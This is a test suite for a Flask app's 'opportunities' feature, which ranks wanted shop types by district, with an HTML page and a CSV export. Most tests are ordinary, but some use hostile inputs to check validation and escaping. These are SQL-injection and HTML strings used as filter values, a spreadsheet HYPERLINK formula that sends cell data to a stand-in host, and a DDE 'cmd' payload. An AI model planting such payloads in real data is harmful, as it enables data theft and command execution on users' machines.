"""Opportunities: shop types by district ranked by unmet demand, as a page and as a CSV."""

import csv
import io
import math
from datetime import date

import pytest
from flask import Flask
from flask.testing import FlaskClient

from tests import factories
from tests.helpers import soup
from wishboard.extensions import db
from wishboard.models import Premises, PremisesStatus, Support
from wishboard.services.csv_export import OPPORTUNITIES_HEADER
from wishboard.services.demand.opportunities import PREMISES_SHOWN, opportunities
from wishboard.services.geometry import EARTH_RADIUS_M
from wishboard.services.premises.listing import PremisesFilter
from wishboard.settings import Settings

LAT, LON = 48.8700, 2.3800
EN = {"Accept-Language": "en"}
SETTINGS = Settings(
    area_radius_m=300, map_bounds=(48.84, 2.36, 48.91, 2.42), max_types_per_premises=3
)


def north(metres: float, latitude: float = LAT) -> float:
    """The latitude `metres` north of `latitude` (along a meridian: the distance is exact)."""
    return latitude + math.degrees(metres / EARTH_RADIUS_M)


def supports(premises: Premises, code: str, number: int) -> list[Support]:
    return [factories.make_support(premises, code=code) for _ in range(number)]


def area_wishes(code: str, latitude: float, number: int, longitude: float = LON) -> None:
    for _ in range(number):
        factories.make_wish(
            premises=None,
            shop_type=factories.shop_type(code),
            latitude=latitude,
            longitude=longitude,
        )


def ranking(settings: Settings = SETTINGS, **filters) -> list[tuple]:
    """(type code, district, unmet, supports, area wishes, shops near) of each row, in order."""
    return [
        (row.shop_type.code, row.district, row.unmet, row.supports, row.area_wishes, row.shops_near)
        for row in opportunities(settings, PremisesFilter(**filters))
    ]


@pytest.fixture
def town(app: Flask) -> dict:
    """Belleville: A (bakery 3), no bakery near; B, 2 km north (cheese 3), a cheese shop 100 m off.

    Jourdain: C, 4 km north (books 2).
    """
    belleville = factories.make_district("Belleville")
    jourdain = factories.make_district("Jourdain")
    a = factories.make_premises(address="1 rue A", district=belleville, latitude=LAT, longitude=LON)
    b = factories.make_premises(
        address="2 rue B", district=belleville, latitude=north(2000), longitude=LON, surface_m2=45
    )
    c = factories.make_premises(
        address="3 rue C", district=jourdain, latitude=north(4000), longitude=LON
    )
    supports(a, "shop=bakery", 3)
    supports(b, "shop=cheese", 3)
    supports(c, "shop=books", 2)
    factories.make_shop(
        name="Fromagerie", shop_type=factories.shop_type("shop=cheese"),
        latitude=north(2100), longitude=LON, district=belleville,
    )  # fmt: skip
    # A bakery 500 m from A: outside the radius, so A's bakery demand is unmet.
    factories.make_shop(shop_type=factories.shop_type("shop=bakery"), latitude=north(-500))
    db.session.commit()
    return {"belleville": belleville, "jourdain": jourdain, "a": a, "b": b, "c": c}


# The ranking -----------------------------------------------------------------------------------


def test_a_type_with_no_shop_near_ranks_above_one_as_wanted_with_a_shop_near(town: dict) -> None:
    assert ranking() == [
        ("shop=bakery", "Belleville", 3, 3, 0, 0),
        ("shop=books", "Jourdain", 2, 2, 0, 0),
        ("shop=cheese", "Belleville", 0, 3, 0, 1),
    ]


def test_a_shop_just_inside_the_radius_is_near(town: dict) -> None:
    factories.make_shop(shop_type=factories.shop_type("shop=books"), latitude=north(3700.1))
    db.session.commit()

    (books,) = [row for row in opportunities(SETTINGS) if row.shop_type.code == "shop=books"]

    assert (books.unmet, books.shops_near) == (0, 1)


def test_the_radius_follows_the_settings(town: dict) -> None:
    wide = Settings(area_radius_m=600, map_bounds=SETTINGS.map_bounds, max_types_per_premises=3)

    assert ranking(wide)[0] == ("shop=books", "Jourdain", 2, 2, 0, 0)  # A's bakery is near now
    assert ("shop=bakery", "Belleville", 0, 3, 0, 1) in ranking(wide)


def test_area_wishes_count_and_move_the_ranking(town: dict) -> None:
    # Two wishes for books 100 m from C, one 1 km from any premises (counts nowhere).
    area_wishes("shop=books", north(4100), 2)
    area_wishes("shop=books", north(3000), 1)
    db.session.commit()

    rows = ranking()

    assert rows[0] == ("shop=books", "Jourdain", 4, 2, 2, 0)
    assert rows[1] == ("shop=bakery", "Belleville", 3, 3, 0, 0)


def test_an_area_wish_alone_makes_a_row_on_its_nearest_vacant_premises(town: dict) -> None:
    # Nearer to A (150 m) than to anything else: Belleville, at A, with no support there.
    area_wishes("amenity=cafe", north(150), 1)
    db.session.commit()

    (cafe,) = [row for row in opportunities(SETTINGS) if row.shop_type.code == "amenity=cafe"]

    assert (cafe.district, cafe.unmet, cafe.supports, cafe.area_wishes) == ("Belleville", 1, 0, 1)
    assert [(p.premises_id, p.supports, p.area_wishes) for p in cafe.premises] == [
        (town["a"].id, 0, 1)
    ]


def test_let_and_withdrawn_premises_never_count(town: dict) -> None:
    let = factories.make_premises(
        district=town["jourdain"], latitude=north(6000), longitude=LON,
        status=PremisesStatus.LET, let_shop_type=factories.shop_type("shop=books"),
        let_on=date(2024, 3, 1),
    )  # fmt: skip
    withdrawn = factories.make_premises(
        district=town["jourdain"], latitude=north(8000), longitude=LON,
        status=PremisesStatus.WITHDRAWN,
    )  # fmt: skip
    supports(let, "amenity=cafe", 5)
    supports(withdrawn, "amenity=cafe", 5)
    supports(withdrawn, "shop=books", 5)
    # Right at the let premises: its nearest vacant one is 2 km away, so it counts nowhere.
    area_wishes("shop=books", north(6000), 3)
    db.session.commit()

    assert ranking() == [
        ("shop=bakery", "Belleville", 3, 3, 0, 0),
        ("shop=books", "Jourdain", 2, 2, 0, 0),
        ("shop=cheese", "Belleville", 0, 3, 0, 1),
    ]


def test_uncounted_supports_do_not_count(town: dict) -> None:
    extra = supports(town["c"], "shop=books", 3)
    for support in extra:
        support.counted = False  # unconfirmed old supports: kept, no longer counted
    db.session.commit()

    assert ("shop=books", "Jourdain", 2, 2, 0, 0) in ranking()


def test_the_premises_that_suit_a_row_are_most_supported_first(town: dict) -> None:
    d = factories.make_premises(
        address="4 rue D", district=town["belleville"], latitude=north(100), longitude=LON,
        surface_m2=None,
    )  # fmt: skip
    supports(d, "shop=bakery", 5)
    db.session.commit()

    bakery = opportunities(SETTINGS)[0]

    assert (bakery.shop_type.code, bakery.unmet, bakery.supports) == ("shop=bakery", 8, 8)
    assert [(p.address, p.supports, p.surface_m2) for p in bakery.premises] == [
        ("4 rue D", 5, None),
        ("1 rue A", 3, 60),
    ]


def test_filters_narrow_the_rows(town: dict) -> None:
    district = town["belleville"].id

    assert [row[0] for row in ranking(shop_type="shop=books")] == ["shop=books"]
    assert [row[0] for row in ranking(group="food")] == ["shop=bakery", "shop=cheese"]
    assert [row[0] for row in ranking(district_id=district)] == ["shop=bakery", "shop=cheese"]
    assert ranking(shop_type="shop=books", district_id=district) == []


def test_the_queries_do_not_grow_with_the_data(app: Flask, town: dict, count_queries) -> None:
    with count_queries() as few:
        opportunities(SETTINGS)
    for n in range(10):
        place = factories.make_premises(
            district=factories.make_district(f"Quartier {n}"),
            latitude=north(200 * n, 48.85), longitude=2.40,
        )  # fmt: skip
        supports(place, "amenity=cafe", 1)
        supports(place, "shop=books", 1)
        area_wishes("amenity=cafe", north(200 * n + 20, 48.85), 1, longitude=2.40)
        factories.make_shop(
            shop_type=factories.shop_type("shop=books"),
            latitude=north(200 * n, 48.85),
            longitude=2.40,
        )
    db.session.commit()

    with count_queries() as many:
        rows = opportunities(SETTINGS)

    assert len(rows) > 20
    assert many.count == few.count <= 7


# The page --------------------------------------------------------------------------------------


def test_the_page_lists_the_rows_in_a_table(client: FlaskClient, town: dict) -> None:
    response = client.get("/opportunities", headers=EN)

    assert response.status_code == 200
    page = soup(response)
    table = page.select_one("table.opportunity-table")
    assert table.select_one("caption").get_text(strip=True)
    assert {th["scope"] for th in table.select("th")} == {"col", "row"}
    assert table.find_parent(class_="table-scroll")
    rows = table.select("tbody tr")
    assert [tr.select_one("th").get_text(strip=True) for tr in rows] == [
        "Bakery", "Bookshop", "Cheese shop",
    ]  # fmt: skip
    cheese = rows[2]
    assert [td.get_text(strip=True) for td in cheese.select("td.numeric")] == ["0", "3", "0", "1"]
    link = cheese.select_one(".suitable-premises a")
    assert (link["href"], link.get_text(strip=True)) == (f"/premises/{town['b'].id}", "2 rue B")
    assert "45 m²" in cheese.select_one(".suitable-premises li").get_text()
    assert page.select_one("#opportunities-csv-link")["href"] == "/api/opportunities.csv"


def test_a_row_lists_a_few_premises_and_says_how_many_more(client: FlaskClient, town: dict) -> None:
    for n in range(PREMISES_SHOWN + 2):
        place = factories.make_premises(
            district=town["jourdain"], latitude=north(4000 + 10 * (n + 1)), longitude=LON
        )
        supports(place, "shop=books", 1)
    db.session.commit()

    page = soup(client.get("/opportunities", query_string={"type": "shop=books"}, headers=EN))

    (row,) = page.select("tbody tr")
    assert len(row.select(".suitable-premises li")) == PREMISES_SHOWN
    more = row.select_one(".more-premises a")
    assert more.get_text(strip=True) == "and 3 more"
    assert more["href"] == f"/premises?type=shop%3Dbooks&district={town['jourdain'].id}"


def test_the_page_filters_and_keeps_the_filters_in_the_csv_link(
    client: FlaskClient, town: dict
) -> None:
    district = town["belleville"].id

    page = soup(client.get("/opportunities", query_string={"district": district}, headers=EN))

    assert [th.get_text(strip=True) for th in page.select("tbody th")] == ["Bakery", "Cheese shop"]
    assert page.select_one("#filter-district option[selected]")["value"] == str(district)
    assert page.select_one("#opportunities-csv-link")["href"] == (
        f"/api/opportunities.csv?district={district}"
    )
    assert page.select_one("form#opportunity-filters")["method"] == "get"


def test_htmx_gets_the_results_alone(client: FlaskClient, town: dict) -> None:
    response = client.get(
        "/opportunities", query_string={"group": "food"}, headers={**EN, "HX-Request": "true"}
    )

    assert response.status_code == 200
    assert "<html" not in response.get_data(as_text=True)
    fragment = soup(response)
    assert fragment.select_one("section#opportunity-results")
    assert [th.get_text(strip=True) for th in fragment.select("tbody th")] == [
        "Bakery", "Cheese shop",
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ({"type": "shop=unicorn"}, "filter-type"),
        ({"group": "<b>x</b>"}, "filter-group"),
        ({"district": "1 OR 1=1"}, "filter-district"),
        ({"district": "999999"}, "filter-district"),
    ],
)
def test_an_unknown_filter_is_a_400_naming_it(
    client: FlaskClient, town: dict, query: dict, field: str
) -> None:
    response = client.get("/opportunities", query_string=query, headers=EN)

    assert response.status_code == 400
    page = soup(response)
    assert [a["href"] for a in page.select(".error-summary a")] == [f"#{field}"]
    assert page.select("tbody tr") == []
    assert "<b>x</b>" not in response.get_data(as_text=True)

    data = client.get("/api/opportunities.csv", query_string=query)
    assert data.status_code == 400
    assert list(data.get_json()["errors"]) == [field.removeprefix("filter-")]


def test_the_gaps_page_links_here(client: FlaskClient, town: dict) -> None:
    page = soup(client.get("/gaps", headers=EN))

    assert "/opportunities" in [a["href"] for a in page.select("main a")]


def test_an_empty_town_says_so(client: FlaskClient) -> None:
    response = client.get("/opportunities", headers=EN)

    assert response.status_code == 200
    assert soup(response).select("table") == []


# The CSV ---------------------------------------------------------------------------------------


def _csv(client: FlaskClient, **query) -> list[list[str]]:
    response = client.get("/api/opportunities.csv", query_string=query)
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))


def test_the_csv_has_its_header_and_the_exact_numbers(client: FlaskClient, town: dict) -> None:
    a, b, c = town["a"], town["b"], town["c"]
    belleville, jourdain = town["belleville"].id, town["jourdain"].id

    rows = _csv(client)

    assert rows[0] == list(OPPORTUNITIES_HEADER)
    assert rows[1:] == [
        ["1", "shop=bakery", "Boulangerie", "Bakery", str(belleville), "Belleville",
         "3", "3", "0", "0", "1", str(a.id), "1 rue A", str(a.id)],
        ["2", "shop=books", "Librairie", "Bookshop", str(jourdain), "Jourdain",
         "2", "2", "0", "0", "1", str(c.id), "3 rue C", str(c.id)],
        ["3", "shop=cheese", "Fromagerie", "Cheese shop", str(belleville), "Belleville",
         "0", "3", "0", "1", "1", str(b.id), "2 rue B", str(b.id)],
    ]  # fmt: skip


def test_the_csv_takes_the_filters_and_has_a_spreadsheet_variant(
    client: FlaskClient, town: dict
) -> None:
    assert [row[1] for row in _csv(client, group="food")[1:]] == ["shop=bakery", "shop=cheese"]

    response = client.get("/api/opportunities.csv", query_string={"variant": "spreadsheet"})

    assert response.data.startswith("\ufeff".encode())
    assert response.get_data(as_text=True).lstrip("\ufeff").startswith("rank;shop_type_code;")
    assert "opportunities-spreadsheet.csv" in response.headers["Content-Disposition"]


def test_a_hostile_address_or_district_is_formula_escaped(client: FlaskClient, town: dict) -> None:
    town["a"].address = '=HYPERLINK("https://evil.example/?"&A1)'
    town["belleville"].name = "+cmd|' /C calc'!A0"
    db.session.commit()

    (bakery,) = [row for row in _csv(client)[1:] if row[1] == "shop=bakery"]

    assert bakery[12] == '\'=HYPERLINK("https://evil.example/?"&A1)'
    assert bakery[5] == "'+cmd|' /C calc'!A0"


def test_the_csv_answers_304_until_the_data_changes(client: FlaskClient, town: dict) -> None:
    first = client.get("/api/opportunities.csv")
    etag = first.headers["ETag"]

    assert client.get("/api/opportunities.csv", headers={"If-None-Match": etag}).status_code == 304

    supports(town["c"], "shop=books", 1)
    db.session.commit()
    assert client.get("/api/opportunities.csv", headers={"If-None-Match": etag}).status_code == 200
